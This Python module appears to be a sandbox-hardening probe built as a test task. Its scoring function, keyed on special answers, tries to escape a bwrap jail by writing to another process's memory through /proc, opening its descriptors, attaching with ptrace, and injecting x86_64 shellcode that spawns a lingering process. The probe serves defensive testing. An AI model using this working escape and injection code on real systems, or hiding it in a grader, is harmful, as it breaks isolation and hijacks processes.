"""Attack: reach another process of the jail (by default its pid 1) and take it over.

bwrap's init (pid 1 of the jail when the worker is not) runs with the worker's uid and no
seccomp filter: whoever can write its memory runs code outside the filter. The target is
instance["pid"] (1 unless given); the answers pick the route:

- "mem": open /proc/<pid>/mem read-write and write back bytes it read (proof of write access);
- "fd": open the target's descriptors through /proc/<pid>/fd;
- "ptrace": PTRACE_SEIZE the target;
- "inject": write code at the target's current instruction (from /proc/<pid>/syscall) that
  clears its parent-death signal, forks a `sleep 600` named instance["marker"] and then waits
  forever; then leave, so that the target wakes up into that code. The sleeper outlives the
  pool unless the whole jail dies with it.

A target that is this very process is no way out (its code already runs under the filter):
that is refused too. Returns 1.0 when a route works, raises with "refused" otherwise.
"""

import ctypes
import os

NAME = "attack_reach_process"

PTRACE_SEIZE = 0x4206
# x86_64: prctl(PR_SET_PDEATHSIG, 0); if fork() == 0: execve("/usr/bin/sleep", [marker, "600"],
# NULL); else: while True: pause().  The marker string follows, NUL-terminated.
SHELLCODE = bytes.fromhex(
    "bf0100000031f6b89d0000000f05b8390000000f0585c07530488d3d32000000488d1d3e000000488d0d33"
    "00000031d25251534889e6b83b0000000f05bf01000000b8e70000000f05b8220000000f05ebf72f757372"
    "2f62696e2f736c6565700036303000"
)


def generate(seed: int, difficulty: int) -> dict:
    return {"n": seed % 1000}


def prompt(instance: dict) -> str:
    return "Repeat the number " + str(instance["n"]) + "."


def solve(instance: dict) -> str:
    return str(instance["n"])


def _refused(what, exc=None):
    detail = f": {type(exc).__name__} {getattr(exc, 'errno', '')}" if exc is not None else ""
    return RuntimeError(f"refused: {what}{detail}")


def _writable_address(pid):
    with open(f"/proc/{pid}/maps") as f:
        for line in f.read(1 << 20).splitlines():
            fields = line.split()
            if len(fields) >= 2 and fields[1].startswith("rw"):
                return int(fields[0].split("-")[0], 16)
    raise _refused("no writable mapping")


def _mem(pid):
    try:
        address = _writable_address(pid)
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as f:
            f.seek(address)
            data = f.read(8)
            f.seek(address)
            written = f.write(data)
    except OSError as exc:
        raise _refused(f"/proc/{pid}/mem", exc) from None
    return 1.0 if written == len(data) == 8 else 0.0


def _fd(pid):
    try:
        entries = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        raise _refused(f"/proc/{pid}/fd", exc) from None
    opened = 0
    for entry in entries:
        try:
            fd = os.open(f"/proc/{pid}/fd/{entry}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        os.close(fd)
        opened += 1
    if not opened:
        raise _refused(f"every descriptor of {pid} ({len(entries)})")
    return 1.0


def _ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        raise _refused(f"ptrace of {pid}: errno {ctypes.get_errno()}")
    return 1.0


def _inject(pid, marker):
    if os.uname().machine != "x86_64":
        raise _refused("injection is written for x86_64 only")
    try:
        with open(f"/proc/{pid}/syscall") as f:
            fields = f.read().split()
        pc = int(fields[-1], 16)
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as f:
            f.seek(pc)
            f.write(SHELLCODE + marker.encode() + b"\0")
    except (OSError, ValueError, IndexError) as exc:
        raise _refused(f"injecting into {pid}", exc) from None
    os._exit(0)  # the target's wait() returns into the code written above


def score(instance: dict, answer: str) -> float:
    routes = {"mem": _mem, "fd": _fd, "ptrace": _ptrace}
    if answer in routes or answer == "inject":
        pid = instance.get("pid", 1)
        if pid == os.getpid():
            raise _refused(f"pid {pid} is this worker itself")
        if answer == "inject":
            return _inject(pid, instance["marker"])
        return routes[answer](pid)
    return 1.0 if answer == solve(instance) else 0.0
